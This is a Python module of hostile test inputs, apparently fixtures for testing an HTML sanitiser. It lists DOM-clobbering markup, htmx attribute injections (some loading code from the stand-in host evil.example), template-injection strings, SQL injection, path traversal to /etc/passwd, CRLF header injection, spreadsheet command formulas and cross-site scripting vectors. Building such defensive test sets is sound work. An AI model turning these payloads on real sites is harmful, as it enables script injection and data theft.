"""Names that stand in for the page's own parts, htmx's attributes, templates and formulas."""

_CLOBBERED = (
    *(
        "getElementById",
        "querySelector",
        "body",
        "cookie",
        "forms",
        "head",
        "location",
        "defaultView",
    ),
    *("htmx", "alert", "live", "thread", "reply-form", "csrf_token", "submission", "attributes"),
    *("parentNode", "nodeName", "innerHTML", "__proto__", "constructor", "toString", "action"),
)
_HX = (
    *(
        "hx-get=/logout",
        "hx-post=/logout hx-trigger=load",
        "hx-delete=/x",
        "hx-put=/x",
        "hx-patch=/x",
    ),
    *(
        "hx-on:click=alert(1)",
        "hx-on::load=alert(1)",
        "hx-on='click: alert(1)'",
        "hx-on-click=alert(1)",
    ),
    *("hx-vals='js:{a:alert(1)}'", "hx-vals='javascript:alert(1)'", "hx-headers='js:{a:alert(1)}'"),
    *(
        "hx-trigger='load[alert(1)]'",
        "hx-trigger='every 1s'",
        "hx-vars='a:alert(1)'",
        "hx-boost=true",
    ),
    *(
        "hx-ext=//evil.example/x",
        "hx-target=body hx-swap=outerHTML",
        "hx-include=body",
        "hx-select=body",
    ),
    *(
        "hx-push-url=//evil.example",
        "hx-replace-url=true",
        "hx-swap-oob=true",
        "hx-select-oob=#live",
    ),
    *("hx-request='js:{credentials:true}'", "hx-history=false", "hx-history-elt", "hx-preserve"),
    *(
        "hx-sse=connect:/x",
        "hx-ws=connect:/x",
        "sse-connect=//evil.example",
        "ws-connect=//evil.example",
    ),
    *(
        "hx-confirm=x hx-disable",
        "hx-disinherit=*",
        "hx-encoding=x",
        "hx-indicator=body hx-sync=body",
    ),
)

CLOBBERING = [
    *(f"<a id={name}><a id={name} name=x href=cid:alert(1)>" for name in _CLOBBERED),
    *(f"<p name={name} id={name}>x</p>" for name in _CLOBBERED[:8]),
    "<form id=config><input name=action value=//evil.example></form>",
    "<form name=body><img name=firstChild></form>",
    "<iframe name=self srcdoc='<a id=x>'></iframe>",
    "<object id=document></object><embed name=cookie>",
    "<a id=htmx><a id=htmx name=config href='//evil.example'>",
    "<p class='message message--staff note sr-only'>Signed: support</p>",
    "<p id=live aria-live=assertive role=alert>You are logged out</p>",
    "<p data-confirm=x data-action=x data-controller=x data-turbo=false>x</p>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<del cite='//evil.example' datetime=x>x</del>",
]

HTMX = [
    *(f"<p {attribute}>x</p>" for attribute in _HX),
    *(f"<a href='https://a.example' data-{attribute}>x</a>" for attribute in _HX),
    "<p HX-GET=/logout HX-TRIGGER=load>x</p>",
    "<p hx-get&#61;/logout>x</p>",
    "<p x-data='alert(1)' x-init='alert(1)' @click='alert(1)' :class='alert(1)'>x</p>",
    "<p v-html='x' v-on:click='alert(1)' ng-app ng-init='alert(1)' _='on load alert(1)'>x</p>",
    "<hx-partial>x</hx-partial><template><p hx-get=/logout></template>",
]

TEMPLATES = [
    *(
        "{{7*7}}",
        "{{ config }}",
        "{% include '/etc/passwd' %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    *(
        "{{''.__class__.__mro__}}",
        "{{constructor.constructor('alert(1)')()}}",
        "[[7*7]]",
        "*{7*7}",
        "@(7*7)",
    ),
    *(
        "%s%n{0.__class__}",
        "%(password)s",
        "{0}{1}",
        "$(id)",
        "`id`",
        "=cmd|'/c calc'!A1",
        "+1+1",
        "@SUM(1)",
    ),
    *(
        "javascript:alert(1)",
        "'; DROP TABLE people; --",
        '" or 1=1 --',
        "../../etc/passwd",
        "\\\\evil\\share",
    ),
    *(
        "\r\nBcc: a@evil.example",
        "%0d%0aSet-Cookie: x=1",
        "x\u2028alert(1)\u2029",
        "</textarea><script>alert(1)",
    ),
    *(
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
    ),
    *("';alert(1)//", '";alert(1)//', "\\';alert(1)//", "</style><script>alert(1)</script>"),
    *(
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover=alert(1) '",
        "x onmouseover=alert(1)",
        "` onclick=alert(1)`",
    ),
]
